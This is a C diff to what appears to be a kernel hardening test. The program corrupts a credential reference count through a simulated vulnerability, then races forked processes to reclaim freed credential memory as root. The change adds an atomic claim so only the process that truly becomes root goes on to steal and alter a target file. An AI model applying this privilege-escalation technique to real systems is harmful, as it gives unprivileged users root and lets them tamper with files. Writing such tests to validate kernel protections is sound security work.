@@ -20,6 +20,11 @@
 #define PROGRAM_S	8
 #define ROUNDS		8
 
+/* Shared by all candidates. */
+struct prize {
+	bool claimed, won;
+};
+
 static void nap(long ms)
 {
 	const struct timespec pause = { .tv_nsec = ms * 1000 * 1000 };
@@ -86,7 +91,7 @@ static noreturn void stay_for_ever(void)
 		pause();
 }
 
-static noreturn void be_a_candidate(const char *prize, volatile bool *won)
+static noreturn void be_a_candidate(const char *path, volatile struct prize *prize)
 {
 	struct kpkeys_vuln_cred mine = vuln_cred();
 	int i;
@@ -101,8 +106,14 @@ static noreturn void be_a_candidate(const char *prize, volatile bool *won)
 		if ((int64_t)vuln_read(mine.usage) <= 0)
 			continue;
 		vuln_write(mine.usage, vuln_read(mine.usage) + 1000);
-		steal_and_alter_as_root(prize);
-		*won = true;
+		/* From now on they stay, but may have become others just before. */
+		if (!is_root(mine.uid))
+			continue;
+		/* There is one secret, and a candidate that finds none would end. */
+		if (__atomic_exchange_n(&prize->claimed, true, __ATOMIC_SEQ_CST))
+			break;
+		steal_and_alter_as_root(path);
+		prize->won = true;
 		break;
 	}
 	stay_for_ever();
@@ -140,7 +151,7 @@ static int candidate_ended(const pid_t candidates[CANDIDATES])
 int main(int argc, char **argv)
 {
 	pid_t candidates[CANDIDATES];
-	volatile bool *won;
+	volatile struct prize *prize;
 	int i, how = 0;
 
 	if (!geteuid()) {
@@ -148,16 +159,16 @@ int main(int argc, char **argv)
 		return 0;
 	}
 
-	won = mmap(NULL, page_size(), PROT_READ | PROT_WRITE,
-		   MAP_SHARED | MAP_ANONYMOUS, -1, 0);
-	if (won == MAP_FAILED)
+	prize = mmap(NULL, page_size(), PROT_READ | PROT_WRITE,
+		     MAP_SHARED | MAP_ANONYMOUS, -1, 0);
+	if (prize == MAP_FAILED)
 		die_errno("mapping a page");
 	for (i = 0; i < CANDIDATES; i++) {
 		candidates[i] = fork_or_die();
 		if (!candidates[i])
-			be_a_candidate(argc > 1 ? argv[1] : "", won);
+			be_a_candidate(argc > 1 ? argv[1] : "", prize);
 	}
-	for (i = 0; i < ROUNDS && !how && !*won; i++) {
+	for (i = 0; i < ROUNDS && !how && !prize->won; i++) {
 		nap(100);
 		run_programs_of_root();
 		nap(200);
@@ -165,7 +176,7 @@ int main(int argc, char **argv)
 	}
 	if (how == EXIT_OUT_OF_REACH)
 		out_of_reach("the credentials are in use, whatever their count says");
-	if (!*won)
+	if (!prize->won)
 		die("the memory did not become credentials of root");
 	return 0;
 }
